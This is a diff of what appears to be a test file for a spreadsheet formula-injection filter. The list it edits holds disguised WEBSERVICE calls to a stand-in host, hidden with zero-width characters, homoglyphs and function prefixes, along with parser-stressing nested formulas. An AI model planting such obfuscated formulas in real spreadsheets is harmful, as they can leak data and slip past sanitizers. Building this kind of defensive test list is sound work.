@@ -59,7 +59,7 @@ DISGUISED = (
     '=WEB\u200bSERVICE("http://x/")', '=WEBSERVICE\u200b("http://x/")', '=\ufeffWEB\u200dSERVICE("http://x/")', '=𝐖𝐄𝐁𝐒𝐄𝐑𝐕𝐈𝐂𝐄("http://x/")',
     '=WEBSERVІCE("http://x/")', '=_xludf.WEBSERVICE("http://x/")', '=_xlfn._xlws._xlfn.WEBSERVICE("http://x/")',
     '=WEBSERVICE ("http://x/")', '=\nWEBSERVICE("http://x/")', "=秘密", "=出口", "=動かす+1", "=注文!秘密", "=SUM(遠く)", "=遠く",
-    "=間接", "=計算機", "=R1C1", "=RC[-1]*2", "=SUM(R2C2:R4C2)", "=B2*C2\x00", "=" + "(" * 80 + "B2" + ")" * 80, "=" + "B2+" * 4000 + "C2",
+    "=間接", "=計算機", "=R1C1", "=RC[-1]*2", "=SUM(R2C2:R4C2)", "=" + "(" * 80 + "B2" + ")" * 80, "=" + "B2+" * 4000 + "C2",
     "=" + "-" * 9000 + "1", "=" + "IF(1," * 70 + "B2" + ")" * 70,
 )  # fmt: skip
 ATTACKS = REACHING_OUT + RUNNING + ELSEWHERE + DISGUISED
